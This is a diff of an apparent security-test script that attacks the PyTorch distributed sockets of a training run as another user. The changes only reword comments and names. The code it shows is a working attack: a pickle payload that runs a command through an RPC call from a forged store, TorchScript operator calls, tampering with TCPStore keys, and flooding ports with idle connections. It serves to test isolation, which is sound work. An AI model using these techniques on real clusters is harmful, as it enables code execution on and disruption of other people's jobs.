@@ -1,7 +1,7 @@
-"""What another user tries on a run's sockets: `python attacker.py MARKER [HOST:]PORT...`, started by root.
+"""Attack the sockets of a run as another user: `python attacker.py MARKER [HOST:]PORT...`, started by root.
 
-Prints a JSON object for each port: what a peer of its RPC and a client of its store were answered (nothing, where the
-answer ended the attacking process); and one about all ports. A command that it gets executed writes to MARKER.
+Prints a JSON object for each port with the answers to an RPC peer and to a client of the store (none if the answer
+ended the attacking process), and one for all ports. A command that the run executes for the attacker writes to MARKER.
 """
 
 from __future__ import annotations
@@ -21,7 +21,7 @@ IDLE = 400
 
 
 class Payload:
-    """Runs a command in whoever loads its pickle."""
+    """Runs a command in the process that loads its pickle."""
 
     def __init__(self, marker: str) -> None:
         self.marker = marker
@@ -51,12 +51,12 @@ def connects(target: Target) -> bool:
 
 
 def use_store(target: Target, found: dict[str, Any]) -> None:
-    """Read and change the store; TCPStore's client blocks beyond its timeout, so this is a daemon thread's work."""
+    """Read and change the store. Run it in a daemon thread: the client of TCPStore blocks beyond its timeout."""
     from torch.distributed import TCPStore
 
     try:
         store = TCPStore(*target, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
-        store.set("stranger", "was here")
+        store.set("stranger", "changed")
         found["store"] = store.get("stranger").decode()
         found["keys"] = store.num_keys()
     except RuntimeError as error:
@@ -64,7 +64,7 @@ def use_store(target: Target, found: dict[str, Any]) -> None:
 
 
 def call(target: Target, marker: str, found: dict[str, Any]) -> None:
-    """Be a peer of RPC: a store of one's own names the victim's port as the address of worker 0."""
+    """Connect as an RPC peer: a forged store has the victim's port as the address of worker 0."""
     from torch.distributed import HashStore, Store, autograd, rpc
     from torch.distributed.rpc import api
 
@@ -97,7 +97,7 @@ def call(target: Target, marker: str, found: dict[str, Any]) -> None:
         rpc.rpc_sync("victim", len, (Payload(marker),), timeout=LIMIT_S)
     except RuntimeError as error:
         found["rpc_error"] = str(error).splitlines()[0]
-    # A builtin of TorchScript, which is executed without Python: reads a file of the victim's.
+    # An operator of TorchScript, which the victim executes without unpickling.
     import torch
 
     try:
@@ -109,7 +109,7 @@ def call(target: Target, marker: str, found: dict[str, Any]) -> None:
 
 def attack(target: Target, marker: str) -> dict[str, Any]:
     found: dict[str, Any] = {"target": target}
-    call(target, marker, found)  # first: TensorPipe stops listening when a connection ends before its greeting
+    call(target, marker, found)  # first: TensorPipe stops listening when a connection ends before its handshake
     found["connects"] = connects(target)
     if found["connects"]:
         thread = threading.Thread(target=use_store, args=(target, found), daemon=True)
@@ -118,8 +118,8 @@ def attack(target: Target, marker: str) -> dict[str, Any]:
     return found
 
 
-def be_idle(targets: list[Target]) -> list[socket.socket]:
-    """Connections that say nothing, as many as the ports take."""
+def open_idle_connections(targets: list[Target]) -> list[socket.socket]:
+    """Open connections without sending data, up to IDLE for each port."""
     idle = []
     for target in targets:
         try:
@@ -129,15 +129,15 @@ def be_idle(targets: list[Target]) -> list[socket.socket]:
     return idle
 
 
-def tell(answer: dict[str, Any]) -> None:
-    """Print an answer as a line, in one piece: the processes share their output."""
+def print_line(answer: dict[str, Any]) -> None:
+    """Print an answer as one line in a single write, because the processes share their output."""
     os.write(1, f"\n{json.dumps(answer)}\n".encode())
 
 
 def main(marker: str, targets: list[Target]) -> None:
-    import torch.distributed.rpc  # noqa: F401  # before this process may not read it any more
+    import torch.distributed.rpc  # noqa: F401  # before this process gives up the right to read it
 
-    # The interpreter may lie in a folder that only root can enter, so what is imported at first use is imported now.
+    # Only root may be able to read the interpreter, so modules that are imported at first use are imported now.
     connects(Target("127.0.0.1", 1))
     import hpcdist.rank.network.rpc  # noqa: F401
 
@@ -149,14 +149,14 @@ def main(marker: str, targets: list[Target]) -> None:
     os.environ["TP_SOCKET_IFNAME"] = "lo" if targets[0].host == "127.0.0.1" else "eth0"
     children = []
     for target in targets:
-        if (child := os.fork()) == 0:  # RPC starts once in a process
-            tell(attack(target, marker))
+        if (child := os.fork()) == 0:  # RPC can be started only once per process
+            print_line(attack(target, marker))
             os._exit(0)
         children.append(child)
     for child in children:
         os.waitpid(child, 0)
     reachable = [target for target in targets if connects(target)]
-    tell({"reachable": reachable, "idle": len(be_idle(reachable))})
+    print_line({"reachable": reachable, "idle": len(open_idle_connections(reachable))})
     os._exit(0)
 
 
